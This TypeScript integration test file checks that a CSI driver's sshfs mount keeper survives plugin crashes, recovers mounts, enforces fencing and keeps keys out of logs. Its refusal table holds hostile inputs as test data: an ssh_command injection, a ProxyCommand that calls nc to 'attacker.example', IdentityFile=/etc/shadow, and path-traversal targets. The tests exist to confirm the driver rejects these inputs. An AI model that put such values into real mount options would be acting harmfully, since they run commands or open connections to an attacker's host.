// "Mounts that outlive the plugin": the mount keeper (`tether --mode keeper`) makes and holds the sshfs
// mounts, the node plugin (`--mode node --mount-keeper unix:///…`) asks it to. Each runs in a
// "container" of its own (a cgroup killed as a whole, as a container runtime stops a container:
// test/support/container.ts), so a crash kills every process it started — sshfs daemons included.
//
// The story, on a real sshd with real sshfs mounts and a kubelet-like directory:
// 1. a pod writes a line every 100 ms; the node plugin's container crashes: the pod writes on, with
//    no error and no gap, a new node plugin takes over, unpublish and unstage leave nothing mounted;
//    without a keeper (the control), the same crash breaks the pod's volume at once;
// 2. the keeper's container crashes: the node reports the volume abnormal (keeper not answering),
//    refuses to stage (UNAVAILABLE naming the socket); a new keeper starts and the node mounts the
//    volume again and binds the pod's target again within seconds — seen by a container whose mount
//    propagation is HostToContainer, never by one with None;
// 3. the keeper refuses what it must: IDs tether did not make, NFS volumes, targets outside its root
//    (also through a symlink), options that run programs; concurrent Mounts of one target make one mount;
// 4. a fenced volume stays fenced: the fence stops the keeper's daemon, and no keeper restart brings it back;
// 5. no secret in any log, in `ps`, or with loose permissions.
//
// Every file operation on a mount runs as an external command with a timeout.
import { mkdir, mkdtemp, readFile, readdir, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { status } from '@grpc/grpc-js';
import { execa, type ResultPromise } from 'execa';
import { Container } from '../support/container.js';
import { csiClient, type CsiClient } from '../support/csi-client.js';
import { backendConfig, startDriver, type RunningDriver } from '../support/driver.js';
import { CMD_TIMEOUT_MS, failure, isMounted, mountCap, mountsUnder, tearDown, uniq, volumeDir, write } from '../support/helpers.js';
import { keeperClient, startKeeper, type KeeperApi, type RunningKeeper } from '../support/keeper.js';
import { freePort, startSshServer, type SshServer } from '../support/sshd.js';

const RWO = mountCap('SINGLE_NODE_WRITER');
const RWX = mountCap('MULTI_NODE_MULTI_WRITER');
/** Writer leases short enough for test 4 to outlast one; long enough that a node plugin restart (test 1) never does. */
const LEASE = { termSeconds: 10, renewSeconds: 1, fenceMarginSeconds: 3 };
const TEST_TIMEOUT_MS = 120_000;

let work: string;
let kubelet: string;
let server: SshServer;
let controllerDriver: RunningDriver;
let controller: CsiClient;
let keeper: RunningKeeper | undefined;
let keeperApi: KeeperApi | undefined;
let node: { driver: RunningDriver; csi: CsiClient; container: Container; metrics: string } | undefined;
const staged = new Map<string, string>();
const published = new Map<string, string>();
const volumes = new Set<string>();
const containers: Container[] = [];
/** Every log line any tether process of this file wrote (checked for secrets at the end). */
const allLogs: string[] = [];
/** Measured numbers, printed at the end (they go into the README). */
const measured: Record<string, number | string> = {};

const nodeRuntime = () => join(work, 'node-run');
const keeperRuntime = () => join(work, 'keeper-run');
const keeperSocket = () => join(work, 'keeper', 'keeper.sock');
const keeperConfig = () => ({ runtimeDir: keeperRuntime(), backends: [backendConfig(server), { name: 'filer', type: 'nfs', server: '192.0.2.1', share: '/export' }] });

async function startTheKeeper(): Promise<RunningKeeper> {
  keeper = await startKeeper({ config: keeperConfig(), dir: work, socket: keeperSocket(), allowedRoots: [kubelet] });
  containers.push(keeper.container);
  keeperApi?.close();
  keeperApi = keeperClient(keeper.endpoint);
  return keeper;
}

/** A node plugin (node-a) in a container of its own; with the keeper unless `withKeeper` is false. */
async function startNode(withKeeper = true, runtimeDir = nodeRuntime()) {
  const container = await Container.create('node', runtimeDir);
  containers.push(container);
  const metrics = `127.0.0.1:${await freePort()}`;
  const driver = await startDriver(server, {
    mode: 'node',
    nodeId: 'node-a',
    container,
    metricsAddress: metrics,
    mountKeeper: withKeeper ? `unix://${keeperSocket()}` : undefined,
    extraConfig: { runtimeDir, lease: LEASE, releaseIdleAfterSeconds: 0 },
  });
  return { driver, csi: csiClient(driver.endpoint), container, metrics };
}

/** The node plugin's container crashes (every process in it gets SIGKILL); its log is kept. */
async function crashNode(): Promise<void> {
  await node!.container.kill();
  await node!.driver.process.catch(() => undefined);
  allLogs.push(node!.driver.logs());
  node!.csi.close();
}

async function createVolume(cap = RWO): Promise<string> {
  const id = (await controller.CreateVolume({ name: uniq('pvc-keeper'), volume_capabilities: [cap] })).volume.volume_id as string;
  volumes.add(id);
  await controller.ControllerPublishVolume({ volume_id: id, node_id: 'node-a', volume_capability: cap });
  return id;
}

/** kubelet's paths for a volume and a pod: it makes the staging directory, the driver the target. */
function kubeletPaths(id: string, pod: string) {
  const pv = volumeDir(id);
  return { staging: join(kubelet, 'plugins/kubernetes.io/csi/tether.csi.dev', pv, 'globalmount'), target: join(kubelet, 'pods', pod, 'volumes/kubernetes.io~csi', pv, 'mount') };
}

async function stageAndPublish(csi: CsiClient, id: string, pod: string, cap = RWO) {
  const { staging, target } = kubeletPaths(id, pod);
  await mkdir(staging, { recursive: true });
  await mkdir(join(target, '..'), { recursive: true });
  await csi.NodeStageVolume({ volume_id: id, staging_target_path: staging, volume_capability: cap });
  staged.set(staging, id);
  await csi.NodePublishVolume({ volume_id: id, staging_target_path: staging, target_path: target, volume_capability: cap });
  published.set(target, id);
  return { staging, target };
}

async function unpublishAndUnstage(csi: CsiClient, id: string, { staging, target }: { staging: string; target: string }) {
  await csi.NodeUnpublishVolume({ volume_id: id, target_path: target });
  published.delete(target);
  await csi.NodeUnstageVolume({ volume_id: id, staging_target_path: staging });
  staged.delete(staging);
}

/**
 * A workload: writes "line <i> <ms>" every 100 ms until `stop` exists — holding one file open the
 * whole time (`held`, as a process in a pod does), or opening it for each line (`reopen`). Every
 * failed write is a line on stderr. With `container`, it runs as a container runtime runs a pod's
 * container: in a mount namespace of its own whose mounts are slaves of the host's (runc's rslave
 * root), with the volume's target bind-mounted at `container.at` and made `rslave` (the volumeMount's
 * mountPropagation HostToContainer) or `rprivate` (None, the default); it writes there.
 */
const workloads: { stop: string; run: ResultPromise }[] = [];
function workload(file: string, stop: string, how: 'held' | 'reopen', container?: { at: string; propagation: 'rslave' | 'rprivate' }): ResultPromise {
  const script = `set -u; file=$1
if [ -n "$4" ]; then mkdir -p "$4" && mount --rbind "$(dirname "$1")" "$4" && mount --make-$5 "$4" || exit 99; file="$4/$(basename "$1")"; fi
i=0; [ "$3" = held ] && exec 3>>"$file"
while [ ! -e "$2" ]; do
  line="line $i $(date +%s%3N)"
  if [ "$3" = held ]; then echo "$line" >&3; else echo "$line" >> "$file"; fi || echo "write $i failed at $(date +%s%3N)" >&2
  i=$((i+1)); sleep 0.1
done
echo "$i"`;
  const bash = ['bash', '-c', script, 'workload', file, stop, how, container?.at ?? '', container?.propagation ?? ''];
  const [command, ...args] = container ? ['unshare', '--mount', '--propagation=slave', ...bash] : bash;
  const run = execa(command!, args, { reject: false, stdin: 'ignore', timeout: 300_000 });
  workloads.push({ stop, run });
  return run;
}

/** The line numbers and times the server's copy of a file holds (read on the server, never through a mount). */
async function linesOnServer(id: string, file: string): Promise<{ i: number; ms: number }[]> {
  const text = await readFile(join(server.root, volumeDir(id), 'data', file), 'utf8').catch(() => '');
  return text.split('\n').filter(Boolean).map((l) => {
    const [, i, ms] = l.split(' ');
    return { i: Number(i), ms: Number(ms) };
  });
}

/** Polls until `check` holds or `ms` pass; the time it took, or undefined. */
async function within(ms: number, check: () => Promise<boolean>, every = 100): Promise<number | undefined> {
  const t0 = Date.now();
  while (Date.now() - t0 < ms) {
    if (await check()) return Date.now() - t0;
    await sleep(every);
  }
  return undefined;
}

const sshfsArgvs = async () => {
  const { stdout } = await execa('ps', ['-eo', 'args'], { timeout: CMD_TIMEOUT_MS });
  return String(stdout).split('\n').filter((l) => /^(sshfs|ssh) /.test(l));
};
const metric = async (name: string) => {
  const text = await (await fetch(`http://${node!.metrics}/metrics`)).text();
  return text.split('\n').filter((l) => l.startsWith(name)).reduce((sum, l) => sum + Number(l.split(' ').at(-1)), 0);
};

beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), 'tether-keeper-'));
  kubelet = join(work, 'kubelet');
  await mkdir(kubelet);
  // The kubelet's directory is a shared mount (kubelet makes it rshared): what is mounted below it
  // reaches the containers that mount it with HostToContainer propagation.
  await execa('mount', ['--bind', kubelet, kubelet], { timeout: CMD_TIMEOUT_MS });
  await execa('mount', ['--make-rshared', kubelet], { timeout: CMD_TIMEOUT_MS });
  server = await startSshServer();
  controllerDriver = await startDriver(server, { mode: 'controller', extraConfig: { lease: LEASE } });
  controller = csiClient(controllerDriver.endpoint);
  await startTheKeeper();
  node = await startNode();
  await node.csi.NodeGetInfo({});
}, 60_000);

afterAll(async () => {
  for (const w of workloads) await writeFile(w.stop, '').catch(() => undefined);
  await Promise.all(workloads.map((w) => w.run));
  if (node) allLogs.push(node.driver.logs());
  if (keeper) allLogs.push(keeper.logs());
  await tearDown({ work, drivers: [{ driver: node?.driver, csi: node?.csi, staged, published }, { driver: controllerDriver, csi: controller }], volumes: { controller, ids: volumes, nodeIds: ['node-a'] }, servers: [server] });
  keeperApi?.close();
  await keeper?.stop().catch(() => undefined);
  for (const c of containers) await c.remove();
  console.log(`mount-keeper measured: ${JSON.stringify(measured)}`);
}, 120_000);

describe('the node plugin crashes: the mount keeper keeps the volume alive', () => {
  it("a pod writes a line every 100 ms; the node plugin's container is killed: every write goes on, none fails, none is lost; a new node plugin takes over and tears down cleanly", async () => {
    const id = await createVolume();
    const paths = await stageAndPublish(node!.csi, id, 'pod-writer');
    // The sshfs daemon is the keeper's, not the node plugin's.
    const [held] = (await keeperApi!.List({ probe: true })).mounts;
    expect(held).toMatchObject({ target: paths.staging, volume_id: id, alive: true, held: true, probe: 'ok', readonly: false });
    expect(await keeper!.container.pids()).toContain(held.daemon_pid);
    expect(await node!.container.pids()).not.toContain(held.daemon_pid);

    const stop = join(work, 'stop-writer');
    const writers = [workload(join(paths.target, 'held.txt'), stop, 'held'), workload(join(paths.target, 'reopen.txt'), stop, 'reopen')];
    await sleep(1_500);
    const crashedAt = Date.now();
    await crashNode();
    await sleep(2_000); // no node plugin at all
    node = await startNode();
    measured['node plugin down, ms'] = Date.now() - crashedAt;
    await sleep(1_500);
    await writeFile(stop, '');
    const results = await Promise.all(writers);

    for (const [r, file] of [[results[0]!, 'held.txt'], [results[1]!, 'reopen.txt']] as const) {
      expect(r.stderr).toBe('');
      const written = Number(r.stdout);
      const lines = await linesOnServer(id, file);
      expect(lines.map((l) => l.i)).toEqual([...Array(written).keys()]); // every line, in order, none missing
      expect(written).toBeGreaterThan(30);
      const gaps = lines.slice(1).map((l, k) => l.ms - lines[k]!.ms);
      measured[`${file} lines / largest gap between lines, ms`] = `${written} / ${Math.max(...gaps)}`;
      expect(Math.max(...gaps)).toBeLessThan(2_000);
      expect(lines.some((l) => l.ms < crashedAt) && lines.some((l) => l.ms > crashedAt + 3_000)).toBe(true);
    }
    // The new node plugin sees a healthy volume, and takes it down cleanly: nothing left mounted, no key copy left.
    const stats = await node!.csi.NodeGetVolumeStats({ volume_id: id, volume_path: paths.target });
    expect(stats.volume_condition).toEqual({ abnormal: false, message: 'volume is mounted and answering' });
    await unpublishAndUnstage(node!.csi, id, paths);
    expect(await mountsUnder(kubelet, 'fuse.sshfs')).toEqual([]);
    expect((await keeperApi!.List({})).mounts).toEqual([]);
    expect(await readdir(join(keeperRuntime(), 'keeper', 'mounts')).catch(() => [])).toEqual([]);
  }, TEST_TIMEOUT_MS);

  it('the control: without a mount keeper the same crash breaks the volume at once; the restarted node plugin mounts it again by itself', async () => {
    const ownRuntime = join(work, 'node-run-alone');
    const alone = await startNode(false, ownRuntime);
    const id = await createVolume(RWX);
    const paths = await stageAndPublish(alone.csi, id, 'pod-alone', RWX);
    // The keeper sees it (a tether volume below its root) but does not hold it: it is the node plugin's own.
    expect((await keeperApi!.List({})).mounts).toEqual([expect.objectContaining({ target: paths.staging, volume_id: id, held: false, alive: true })]);
    const stop = join(work, 'stop-alone');
    const writer = workload(join(paths.target, 'reopen.txt'), stop, 'reopen');
    await sleep(1_000);
    await alone.container.kill();
    await alone.driver.process.catch(() => undefined);
    allLogs.push(alone.driver.logs());
    alone.csi.close();
    await sleep(1_000);
    expect((await write(join(paths.target, 'probe.txt'), 'x\n')).stderr).toMatch(/Transport endpoint is not connected/);

    // A new node plugin (still without a keeper) finds the dead mount among what it staged and mounts it again.
    const restarted = await startNode(false, ownRuntime);
    const back = await within(15_000, async () => (await write(join(paths.target, 'probe.txt'), 'fresh open\n')).exitCode === 0);
    measured['without keeper: back after node restart, ms'] = back ?? 'never';
    expect(back).toBeDefined();
    await writeFile(stop, '');
    const r = await writer;
    expect(r.stderr).toMatch(/write \d+ failed/); // the gap the keeper closes
    expect(restarted.driver.logs()).toMatch(/"event":"mount-recovered"/);
    await unpublishAndUnstage(restarted.csi, id, paths);
    allLogs.push(restarted.driver.logs());
    await restarted.driver.stop();
    restarted.csi.close();
    expect(await mountsUnder(kubelet, 'fuse.sshfs')).toEqual([]);
  }, TEST_TIMEOUT_MS);
});

describe('the mount keeper crashes', () => {
  let id: string;
  let paths: { staging: string; target: string };
  let second: string;

  it('its FUSE daemons die with it: NodeGetVolumeStats says the volume is not usable and the keeper is not answering; NodeStage is UNAVAILABLE naming its socket', async () => {
    id = await createVolume();
    paths = await stageAndPublish(node!.csi, id, 'pod-recover');
    expect((await write(join(paths.target, 'before.txt'), 'before the crash\n')).exitCode).toBe(0);
    allLogs.push(keeper!.logs());
    await keeper!.crash();
    const broken = await write(join(paths.target, 'during.txt'), 'x\n');
    expect(broken.stderr).toMatch(/Transport endpoint is not connected/);

    const stats = await node!.csi.NodeGetVolumeStats({ volume_id: id, volume_path: paths.target });
    expect(stats.volume_condition.abnormal).toBe(true);
    expect(stats.volume_condition.message).toMatch(/Transport endpoint is not connected.*the mount keeper at unix:\/\/\S+keeper\.sock is not answering/);

    second = await createVolume();
    const { staging } = kubeletPaths(second, 'pod-second');
    await mkdir(staging, { recursive: true });
    const err = await failure(node!.csi.NodeStageVolume({ volume_id: second, staging_target_path: staging, volume_capability: RWO }), status.UNAVAILABLE);
    expect(err.details).toContain(`the mount keeper at unix://${keeperSocket()} is not answering`);
  }, TEST_TIMEOUT_MS);

  it('a new keeper starts: within seconds the node mounts the volume again and binds its target again; a fresh open writes through; a container with HostToContainer propagation sees it, one with None does not', async () => {
    // Two containers of the pod, started while the volume is dead, each with the target bind-mounted into it.
    const stop = join(work, 'stop-ns');
    const slave = workload(join(paths.target, 'slave.txt'), stop, 'reopen', { at: join(work, 'container-h2c', 'data'), propagation: 'rslave' });
    const priv = workload(join(paths.target, 'private.txt'), stop, 'reopen', { at: join(work, 'container-none', 'data'), propagation: 'rprivate' });
    await sleep(500);
    const started = Date.now();
    await startTheKeeper();
    const back = await within(20_000, async () => (await write(join(paths.target, 'after.txt'), 'after the crash\n')).exitCode === 0);
    expect(back).toBeDefined();
    measured['keeper restart → target writable again (incl. keeper start), ms'] = Date.now() - started;
    // The log line comes through the node plugin's stdout pipe: it may trail the write by a moment.
    const recoveredLine = () => node!.driver.logs().split('\n').find((l) => l.includes('"event":"mount-recovered"') && l.includes(id));
    await within(5_000, async () => recoveredLine() !== undefined, 50);
    const event = recoveredLine();
    expect(event).toBeDefined();
    const recovered = JSON.parse(event!) as { targets: string[]; staging: string; ms: number; remounted: boolean };
    expect(recovered).toMatchObject({ staging: paths.staging, targets: [paths.target], remounted: true });
    measured['recovery itself (unmount, mount through the keeper, bind), ms'] = recovered.ms;
    expect(await readFile(join(server.root, volumeDir(id), 'data', 'after.txt'), 'utf8')).toBe('after the crash\n');
    expect(await metric('tether_mount_recoveries_total{backend="box",outcome="recovered"}')).toBeGreaterThanOrEqual(1);
    const stats = await node!.csi.NodeGetVolumeStats({ volume_id: id, volume_path: paths.target });
    expect(stats.volume_condition.abnormal).toBe(false);

    await sleep(1_500);
    await writeFile(stop, '');
    const [s, p] = await Promise.all([slave, priv]);
    const slaveLines = await linesOnServer(id, 'slave.txt');
    const privateLines = await linesOnServer(id, 'private.txt');
    measured['HostToContainer / None: lines after recovery'] = `${slaveLines.length} / ${privateLines.length}`;
    expect(slaveLines.length).toBeGreaterThan(5); // HostToContainer: the new mount reached the running container
    expect(s.stderr).toMatch(/write \d+ failed/); // …after the dead time
    expect(privateLines).toEqual([]); // None: it keeps the dead mount until it restarts
    expect(p.stderr).not.toBe('');
    expect(Number(p.stdout)).toBe(String(p.stderr).match(/write \d+ failed/g)!.length); // every single write failed
  }, TEST_TIMEOUT_MS);

  it('the volume comes down cleanly afterwards, and the second volume stages now', async () => {
    await unpublishAndUnstage(node!.csi, id, paths);
    const more = await stageAndPublish(node!.csi, second, 'pod-second');
    expect((await write(join(more.target, 'x.txt'), 'x\n')).exitCode).toBe(0);
    await unpublishAndUnstage(node!.csi, second, more);
    expect(await mountsUnder(kubelet, 'fuse.sshfs')).toEqual([]);
  }, TEST_TIMEOUT_MS);
});

describe('a FUSE daemon dies alone (the keeper lives)', () => {
  it('NodeGetVolumeStats finds the mount dead: abnormal, saying its FUSE daemon is gone — never OK — and it sets the recovery off: the target works again within seconds', async () => {
    const id = await createVolume();
    const paths = await stageAndPublish(node!.csi, id, 'pod-stats');
    const daemon = (await keeperApi!.List({})).mounts.find((m: { target: string }) => m.target === paths.staging);
    expect(daemon.daemon_pid).toBeGreaterThan(1);
    process.kill(daemon.daemon_pid, 'SIGKILL');
    await sleep(200);
    const stats = await node!.csi.NodeGetVolumeStats({ volume_id: id, volume_path: paths.target });
    expect(stats.volume_condition.abnormal).toBe(true);
    expect(stats.volume_condition.message).toMatch(/Transport endpoint is not connected \(its FUSE daemon is gone: tether mounts a volume it staged again by itself/);
    expect(stats.usage).toEqual([]);
    // The node plugin's timed look comes every 10 s: back within 2 s is the stats call's doing (but one time in five).
    const back = await within(2_000, async () => (await write(join(paths.target, 'y.txt'), 'y\n')).exitCode === 0);
    measured['stats found a dead daemon → target writable again, ms'] = back ?? 'never';
    expect(back).toBeDefined();
    await within(5_000, async () => node!.driver.logs().includes(`"event":"mount-recovered","volume":"${id}"`), 50);
    expect((await node!.csi.NodeGetVolumeStats({ volume_id: id, volume_path: paths.target })).volume_condition.abnormal).toBe(false);
    await unpublishAndUnstage(node!.csi, id, paths);
  }, TEST_TIMEOUT_MS);

  it('NodePublish of a second pod finds the staging mount dead: the volume is mounted again, the first pod\'s target bound again, the second one published', async () => {
    const cap = mountCap('SINGLE_NODE_MULTI_WRITER');
    const id = await createVolume(cap);
    const first = await stageAndPublish(node!.csi, id, 'pod-first', cap);
    const daemon = (await keeperApi!.List({})).mounts.find((m: { target: string }) => m.target === first.staging);
    expect(daemon.daemon_pid).toBeGreaterThan(1);
    process.kill(daemon.daemon_pid, 'SIGKILL'); // sshfs crashed
    await sleep(200);
    expect((await write(join(first.target, 'x.txt'), 'x\n')).stderr).toMatch(/Transport endpoint is not connected/);
    const second = kubeletPaths(id, 'pod-second-writer');
    await mkdir(join(second.target, '..'), { recursive: true });
    await node!.csi.NodePublishVolume({ volume_id: id, staging_target_path: first.staging, target_path: second.target, volume_capability: cap });
    published.set(second.target, id);
    expect((await write(join(second.target, 'second.txt'), 'second\n')).exitCode).toBe(0);
    expect((await write(join(first.target, 'first.txt'), 'first again\n')).exitCode).toBe(0);
    expect(await readFile(join(server.root, volumeDir(id), 'data', 'first.txt'), 'utf8')).toBe('first again\n');
    const recoveries = () => node!.driver.logs().split('\n').filter((l) => l.includes('"event":"mount-recovered"') && l.includes(id));
    await within(5_000, async () => recoveries().length > 0, 50);
    expect(recoveries()).toHaveLength(1);
    await node!.csi.NodeUnpublishVolume({ volume_id: id, target_path: second.target });
    published.delete(second.target);
    await unpublishAndUnstage(node!.csi, id, first); // the dead bind beneath goes too
    expect(await mountsUnder(kubelet, 'fuse.sshfs')).toEqual([]);
  }, TEST_TIMEOUT_MS);
});

describe('the keeper takes a volume ID and a target, never a mount spec, and refuses what is not its to mount', () => {
  let id: string;
  let target: string;

  beforeAll(async () => {
    id = await createVolume(RWX);
    target = join(kubelet, 'plugins/direct', volumeDir(id));
    await mkdir(target, { recursive: true });
  });

  const mount = (req: Record<string, unknown>) => keeperApi!.Mount({ volume_id: id, target, mount_flags: [], readonly: false, group: '', ...req });

  it.each<[string, Record<string, unknown>, status, RegExp]>([
    ['an ID tether cannot have made', { volume_id: 'box/../../etc' }, status.NOT_FOUND, /tether did not make this ID/],
    ['an ID of a backend the keeper does not have', { volume_id: 'elsewhere/pvc-1' }, status.NOT_FOUND, /names backend "elsewhere", which the mount keeper's config does not have/],
    ['an NFS volume (a kernel mount: the node makes it)', { volume_id: 'filer/pvc-1' }, status.INVALID_ARGUMENT, /nfs backend "filer": a kernel mount, which the node plugin makes itself/],
    ['a missing volume ID', { volume_id: '' }, status.INVALID_ARGUMENT, /volume_id is required/],
    ['ssh_command', { mount_flags: ['ssh_command=sh -c "touch /tmp/owned"'] }, status.INVALID_ARGUMENT, /"ssh_command" is not on the allowlist/],
    ['ProxyCommand, hidden behind an allowed option', { mount_flags: ['reconnect,ProxyCommand=nc attacker.example 22'] }, status.INVALID_ARGUMENT, /"ProxyCommand" is not on the allowlist/],
    ['IdentityFile (identity is the keeper\'s to set)', { mount_flags: ['IdentityFile=/etc/shadow'] }, status.INVALID_ARGUMENT, /"IdentityFile" is not on the allowlist/],
    ['follow_symlinks', { mount_flags: ['follow_symlinks'] }, status.INVALID_ARGUMENT, /"follow_symlinks" is refused/],
    ['a group that is not a number', { group: 'wheel' }, status.INVALID_ARGUMENT, /group must be a numeric group ID/],
    ['a target outside the allowed root', { target: '/tmp' }, status.INVALID_ARGUMENT, /not below the mount keeper's allowed roots/],
    ['the allowed root itself', { target: '__KUBELET__' }, status.INVALID_ARGUMENT, /not below the mount keeper's allowed roots/],
    ['a sibling that only starts like the root', { target: '__KUBELET__-evil/x' }, status.INVALID_ARGUMENT, /not below the mount keeper's allowed roots/],
    ['a target with ".."', { target: '__KUBELET__/../etc' }, status.INVALID_ARGUMENT, /must not hold a "\.\." component/],
    ['a relative target', { target: 'kubelet/x' }, status.INVALID_ARGUMENT, /must be an absolute path/],
    ['a target that does not exist', { target: '__KUBELET__/no/such/dir' }, status.NOT_FOUND, /does not exist: the node plugin makes the directory/],
  ])('refuses %s', async (_, req, code, message) => {
    const fixed = Object.fromEntries(Object.entries(req).map(([k, v]) => [k, typeof v === 'string' ? v.replace('__KUBELET__', kubelet) : v]));
    const err = await failure(mount(fixed), code);
    expect(err.details).toMatch(message);
    expect(await isMounted(target)).toBe(false);
    expect(await readFile('/tmp/owned').then(() => 'owned', () => 'not owned')).toBe('not owned');
  });

  it('refuses a target below the root that is a symlink to a directory outside it (compared after realpath)', async () => {
    const outside = join(work, 'outside');
    await mkdir(outside);
    const link = join(kubelet, 'plugins/escape');
    await symlink(outside, link);
    const err = await failure(mount({ target: link }), status.INVALID_ARGUMENT);
    expect(err.details).toContain(`(${outside})`);
    expect(await isMounted(outside)).toBe(false);
    const viaParent = await failure(mount({ target: join(link, 'x') }), status.INVALID_ARGUMENT);
    expect(viaParent.details).toMatch(/not below the mount keeper's allowed roots/);
  });

  it('five concurrent Mounts of one volume at one target: one mount, one daemon, all OK; another volume there is ALREADY_EXISTS; Unmount takes the key copy away', async () => {
    const results = await Promise.all(Array.from({ length: 5 }, () => mount({})));
    expect(results.filter((r) => r.mounted)).toHaveLength(1);
    expect(results.every((r) => r.mount.target === target && r.mount.alive)).toBe(true);
    expect((await execa('findmnt', ['-rn', '-o', 'TARGET', '--mountpoint', target], { timeout: CMD_TIMEOUT_MS })).stdout.split('\n')).toEqual([target]);
    expect((await sshfsArgvs()).filter((a) => a.startsWith('sshfs ') && a.includes(` ${target} `))).toHaveLength(1);
    // Again, read-only: not what is mounted there.
    const other = await failure(mount({ readonly: true }), status.ALREADY_EXISTS);
    expect(other.details).toMatch(/mounted at .* already, with other options/);
    const otherId = await createVolume(RWX);
    const squat = await failure(mount({ volume_id: otherId }), status.ALREADY_EXISTS);
    expect(squat.details).toContain(`not volume ${otherId}`);
    // The key copy: 0600 in a 0700 directory of the keeper's runtime directory, named in sshfs's argv by path only.
    const dirs = await readdir(join(keeperRuntime(), 'keeper', 'mounts'));
    expect(dirs).toHaveLength(1);
    const keyDir = join(keeperRuntime(), 'keeper', 'mounts', dirs[0]!);
    expect((await stat(keyDir)).mode & 0o777).toBe(0o700);
    expect((await stat(join(keyDir, 'id'))).mode & 0o777).toBe(0o600);
    expect((await stat(join(keyDir, 'known_hosts'))).mode & 0o777).toBe(0o600);
    expect(await readFile(join(keyDir, 'id'))).toEqual(await readFile(server.clientKeyFile));
    expect((await keeperApi!.Unmount({ target })).unmounted).toBe(true);
    expect(await isMounted(target)).toBe(false);
    expect(await readdir(join(keeperRuntime(), 'keeper', 'mounts'))).toEqual([]);
    expect((await keeperApi!.Unmount({ target })).unmounted).toBe(false); // idempotent
  }, TEST_TIMEOUT_MS);

  it('a Mount where the mount is dead (its daemon killed) takes it down and mounts again', async () => {
    await mount({});
    const before = (await keeperApi!.List({})).mounts.find((m: { target: string }) => m.target === target);
    expect(before.daemon_pid).toBeGreaterThan(1); // (never 0: kill(0) would signal this test's own process group)
    process.kill(before.daemon_pid, 'SIGKILL');
    await sleep(300);
    const dead = (await keeperApi!.List({ probe: true })).mounts.find((m: { target: string }) => m.target === target);
    expect(dead).toMatchObject({ target, alive: false, probe: 'gone', message: expect.stringMatching(/Transport endpoint is not connected/) });
    const again = await mount({});
    expect(again).toMatchObject({ mounted: true, mount: { alive: true } });
    expect((await execa('findmnt', ['-rn', '-o', 'TARGET', '--mountpoint', target], { timeout: CMD_TIMEOUT_MS })).stdout.split('\n')).toEqual([target]);
    expect((await keeperApi!.Unmount({ target })).unmounted).toBe(true);
  }, TEST_TIMEOUT_MS);

  it('the socket is 0600 in a 0700 directory; Health answers', async () => {
    expect((await stat(keeperSocket())).mode & 0o777).toBe(0o600);
    expect((await stat(join(keeperSocket(), '..'))).mode & 0o777).toBe(0o700);
    expect(await keeperApi!.Health({})).toMatchObject({ version: '0.1.0', allowed_roots: [kubelet] });
  });
});

describe('a fenced volume stays fenced', () => {
  it('a node plugin down longer than its lease allows fences on start, through the keeper (daemon killed, connections reset); no recovery and no keeper restart mounts it again', async () => {
    const id = await createVolume();
    const paths = await stageAndPublish(node!.csi, id, 'pod-fenced');
    expect((await write(join(paths.target, 'a.txt'), 'before\n')).exitCode).toBe(0);
    const daemonsBefore = (await sshfsArgvs()).filter((a) => a.includes(` ${paths.staging} `));
    expect(daemonsBefore).toHaveLength(1);
    await crashNode();
    await sleep((LEASE.termSeconds - LEASE.fenceMarginSeconds) * 1000 + 1_000);
    // Meanwhile the keeper kept the mount alive: exactly what the lease must now stop.
    expect((await write(join(paths.target, 'b.txt'), 'while the node plugin was down\n')).exitCode).toBe(0);
    node = await startNode();
    const fence = node.driver.logs().split('\n').find((l) => l.includes('"event":"fence"'));
    expect(fence).toBeDefined();
    const steps = (JSON.parse(fence!) as { steps: string[] }).steps.join(' | ');
    expect(steps).toMatch(/^[1-9]\d* processes frozen, FUSE connection aborted \(by the mount keeper\) \| [1-9]\d* connections reset, [1-9]\d* processes killed \| orphaned connections/);
    expect(keeper!.logs()).toMatch(new RegExp(`"event":"fence","target":"${paths.staging}"`));
    expect((await sshfsArgvs()).filter((a) => a.includes(` ${paths.staging} `))).toEqual([]);
    expect((await write(join(paths.target, 'c.txt'), 'after the fence\n')).exitCode).not.toBe(0);

    // A keeper restart and several recovery passes later, it is still fenced.
    await keeper!.crash();
    await startTheKeeper();
    const stats = await node.csi.NodeGetVolumeStats({ volume_id: id, volume_path: paths.target }); // asks for a recovery pass too
    expect(stats.volume_condition.message).toMatch(/fenced on this node/);
    await within(5_000, async () => node!.driver.logs().includes('a fenced volume is not mounted again'));
    expect(node.driver.logs()).toContain('not mounting a dead FUSE mount again: a fenced volume is not mounted again until it is staged again');
    await sleep(2_000);
    expect(node.driver.logs().split('\n').filter((l) => l.includes('"event":"mount-recovered"') && l.includes(id))).toEqual([]);
    expect((await write(join(paths.target, 'd.txt'), 'later\n')).exitCode).not.toBe(0);
    expect(await readdir(join(server.root, volumeDir(id), 'data'))).toEqual(['a.txt', 'b.txt']);
    await failure(node.csi.NodePublishVolume({ volume_id: id, staging_target_path: paths.staging, target_path: kubeletPaths(id, 'pod-other').target, volume_capability: RWO }), status.FAILED_PRECONDITION);
    await unpublishAndUnstage(node.csi, id, paths);
    expect(await mountsUnder(kubelet, 'fuse.sshfs')).toEqual([]);
  }, TEST_TIMEOUT_MS);
});

describe('secrets', () => {
  it("no private key in any log of the keeper or the node plugins, nor in any sshfs or ssh command line", async () => {
    allLogs.push(node!.driver.logs(), keeper!.logs(), controllerDriver.logs());
    const key = await readFile(server.clientKeyFile, 'utf8');
    const body = key.split('\n').filter((l) => l && !l.startsWith('-----'));
    const logs = allLogs.join('\n');
    expect(logs.length).toBeGreaterThan(1000);
    expect(logs).not.toContain('PRIVATE KEY');
    for (const line of body) expect(logs).not.toContain(line);
    // A mount made now, so that its processes are there to look at.
    const id = await createVolume();
    const paths = await stageAndPublish(node!.csi, id, 'pod-secrets');
    const argvs = await sshfsArgvs();
    expect(argvs.length).toBeGreaterThanOrEqual(2); // sshfs and its ssh
    for (const a of argvs) {
      expect(a).not.toContain('PRIVATE KEY');
      for (const line of body) expect(a).not.toContain(line);
    }
    expect(argvs.find((a) => a.startsWith('sshfs ') && a.includes(` ${paths.staging} `))).toMatch(new RegExp(`IdentityFile=${keeperRuntime()}/keeper/mounts/[^/]+/id`));
    await unpublishAndUnstage(node!.csi, id, paths);
  }, TEST_TIMEOUT_MS);
});
